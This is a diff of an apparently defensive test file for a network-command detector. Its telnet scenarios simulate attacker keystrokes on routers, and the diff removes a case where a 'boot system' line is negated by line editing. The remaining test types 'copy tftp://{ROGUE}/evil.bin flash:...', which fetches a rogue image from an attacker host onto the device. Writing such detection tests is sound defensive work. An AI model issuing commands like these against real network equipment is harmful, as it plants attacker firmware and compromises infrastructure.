@@ -127,12 +127,8 @@ def killed(session: telnet.Telnet, at: int) -> None:
 @scenario(
     "BW07",
     "malicious",
-    # No rule restores what was killed, nor sees what is put in at the line's beginning.
-    raises=[
-        ("BW07", 0, ATTACKER, "10.0.1.1"),
-        ("BW07", 1, ATTACKER, "10.0.1.3"),
-        ("BW07", 0, ATTACKER, "10.0.1.4"),
-    ],
+    # No rule restores what was killed.
+    raises=[("BW07", 0, ATTACKER, "10.0.1.1"), ("BW07", 1, ATTACKER, "10.0.1.3")],
     site=HQ,
     with_site=Expect(
         (
@@ -144,7 +140,7 @@ def killed(session: telnet.Telnet, at: int) -> None:
 )
 def bw07_edited_and_scrolled(wire: Wire) -> None:
     """Words are completed, and the window moves before the key is echoed; a line is killed and restored; a key of the
-    pager stands before a command that scrolls; a line becomes a negation at its beginning.
+    pager stands before a command that scrolls.
     """
     session = telnet.Telnet(wire, ATTACKER, "10.0.1.1", prompt="edge1(config)#", port=50031)
     session.login()
@@ -175,15 +171,6 @@ def bw07_edited_and_scrolled(wire: Wire) -> None:
     session.keys("q", "\b" * 10 + " " * 10 + "\b" * 10 + "\r\nedge3#")
     typing(session, f"copy tftp://{ROGUE}/evil.bin flash:a-name-that-is-longer-than-what-is-left-of-the-terminal.bin")
     session.keys("\r\0", "\r\nDestination filename [evil.bin]? ")
-    session.close()
-
-    session = telnet.Telnet(wire, ATTACKER, "10.0.1.4", prompt="edge4(config)#", port=50034)
-    session.login()
-    line = f"boot system {EVIL}"
-    at = typing(session, line)
-    session.keys("\x01", "\b" * at + line[:64] + "$" + "\b" * 65)
-    session.keys("no ", "no " + line[:61] + "$" + "\b" * 62)
-    session.keys("\r\0", "\r\nedge4(config)#")
     session.close()
 
 
